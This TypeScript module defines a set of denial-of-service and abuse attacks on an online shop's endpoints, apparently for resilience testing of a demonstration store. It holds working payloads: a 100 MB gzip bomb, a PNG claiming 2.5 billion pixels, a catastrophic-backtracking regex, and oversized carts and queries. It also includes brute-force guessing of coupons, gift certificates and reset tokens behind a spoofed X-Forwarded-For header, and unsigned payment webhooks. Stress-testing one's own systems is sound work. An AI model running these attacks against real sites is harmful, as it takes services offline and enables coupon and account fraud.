import { gzipSync } from 'node:zlib'
import type { Attack } from './attack.ts'
import { requests } from './requests.ts'
import { ask, describe, flood, type RawRequest } from './sockets.ts'

const api = '/exp-sf-cms/api'
const own = { 'sec-fetch-site': 'same-origin' }
const json = { 'content-type': 'application/json', ...own }
const discovery = '/apis/ecommerce-service/public/discovery/v2'

/** A word that nobody has searched for. */
const newWord = () => Math.random().toString(36).slice(2)

/** A PNG whose header announces 50,000 × 50,000 pixels. */
const hugePng = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
  Buffer.from('0000c3500000c3500802000000', 'hex'),
  Buffer.alloc(4_000),
])

function post(path: string, body: object | string): RawRequest {
  return { method: 'POST', path, headers: json, body: typeof body === 'string' ? body : JSON.stringify(body) }
}

/** An attack that guesses codes for a cart, from one address. */
function guesses(codes: string, next: () => RawRequest): Attack {
  return {
    name: `guesses of ${codes} from one address, 16 connections`,
    async run({ target, signal }) {
      const client = { 'x-forwarded-for': '203.0.113.9' }
      const cart = { ...client, cookie: await openCart(target.origin) }
      const guess = () => {
        const request = next()
        return ask(target.origin, { ...request, headers: { ...request.headers, ...cart } }, signal)
      }
      return describe(await flood(16, signal, guess))
    },
  }
}

/** Puts a product of the demonstration shop into a new cart and returns the cookie of the cart. */
async function openCart(origin: string): Promise<string> {
  const page = await (await fetch(`${origin}/furniture/stools-benches/milking-stool-oak/`)).text()
  const [, sku = ''] = /name="sku[^"]*" value="([^"]+)"/.exec(page) ?? []
  const response = await fetch(`${origin}${api}/pa/carts`, {
    method: 'POST',
    headers: json,
    body: JSON.stringify({ line_items: [{ sku, quantity: 1 }] }),
  })
  if (!response.ok) throw new Error(`${sku} cannot be bought: ${await response.text()}`)
  return response.headers.getSetCookie()[0]?.split(';', 1)[0] ?? ''
}

function upload(fileName: string, content: Buffer): RawRequest {
  const boundary = 'attack'
  const head = `--${boundary}\r\ncontent-disposition: form-data; name="picture"; filename="${fileName}"\r\ncontent-type: image/png\r\n\r\n`
  return {
    method: 'POST',
    path: '/apis/setting-service/public/v1/forms/contact/submit',
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, ...own },
    body: Buffer.concat([Buffer.from(head), content, Buffer.from(`\r\n--${boundary}--\r\n`)]),
  }
}

const tenThousandLines = JSON.stringify({
  line_items: Array.from({ length: 10_000 }, (_, index) => ({ sku: `sku-${index}`, quantity: 1 })),
})

/** 100 MB of zeros, compressed. */
const gzipBomb = gzipSync(Buffer.alloc(100 * 1024 * 1024))

/** Attacks on what shoppers do: search, upload, buy, sign up. */
export const shopperAttacks: readonly Attack[] = [
  requests('searches for ever new words', () => ({ path: `/search/?st=${newWord()}` })),
  requests('searches for regular expressions', () => ({
    path: `/search/?st=${encodeURIComponent('(a+)+$[^]*'.repeat(30))}${Math.random()}`,
  })),
  requests('products in 500 fields', () =>
    post(`${discovery}/search`, {
      searchTerm: newWord(),
      ...Object.fromEntries(Array.from({ length: 500 }, (_, index) => [`f${index}`, [newWord()]])),
    }),
  ),
  requests('facets of 500 fields', () =>
    post(`${discovery}/search/facet`, {
      search_term: '',
      facets: Array.from({ length: 500 }, (_, index) => `field_${index}`),
    }),
  ),
  requests('uploads of a picture with 2.5 billion pixels', () => upload('a.png', hugePng)),
  requests('searches by a picture with 2.5 billion pixels', () =>
    post('/apis/ecommerce-service/public/v1/image-search', { image: hugePng.toString('base64') }),
  ),
  requests(
    'searches by 6 MB of noise',
    () => post('/apis/ecommerce-service/public/v1/image-search', { image: 'QUJD'.repeat(1_500_000) }),
    4,
  ),
  requests('compressed bodies of 100 MB', () => ({
    method: 'POST',
    path: `${api}/login`,
    headers: { ...json, 'content-encoding': 'gzip' },
    body: gzipBomb,
  })),
  requests('carts with 10,000 lines', () => post(`${api}/pa/carts`, tenThousandLines)),
  requests('ever new carts', () =>
    post(`${api}/pa/carts`, { line_items: [{ sku: 'unknown', quantity: 1 }] }),
  ),
  guesses('coupons', () => post(`${api}/pa/checkouts/coupons`, { coupon_code: newWord() })),
  guesses('gift certificates', () => post('/_shop/v1/cart/certificates', { code: newWord() })),
  requests('look-ups of orders', () =>
    post('/_shop/v1/orders/lookup', { order_number: newWord(), email: `${newWord()}@shop.test` }),
  ),
  requests('sign-ups', () =>
    post(`${api}/signup`, {
      email: `${newWord()}@shop.test`,
      password: `a long pass word ${newWord()}`,
      firstName: 'A',
      lastName: 'B',
    }),
  ),
  requests('requests for new passwords', () =>
    post(`${api}/forgot-password`, { email: `${newWord()}@shop.test` }),
  ),
  requests('guesses of links in mail', () =>
    post(`${api}/set-new-password`, { token: newWord(), password: `a long pass word ${newWord()}` }),
  ),
  requests('subscriptions to the newsletter', () =>
    post(`${api}/pa/news-letter/subscribe`, { email: `${newWord()}@shop.test` }),
  ),
  requests('webhooks of payments without a signature', () =>
    post('/_store/pa/payments/webhooks/test', { id: newWord(), text: 'x'.repeat(60_000) }),
  ),
  requests('pings', () => ({ path: `${api}/ping?path=%2F${newWord()}` })),
  requests('pages in unknown languages and currencies', () => ({
    path: `/?lang=${newWord().slice(0, 2)}&_c_d=${newWord().slice(0, 3)}&c=${newWord()}`,
  })),
]
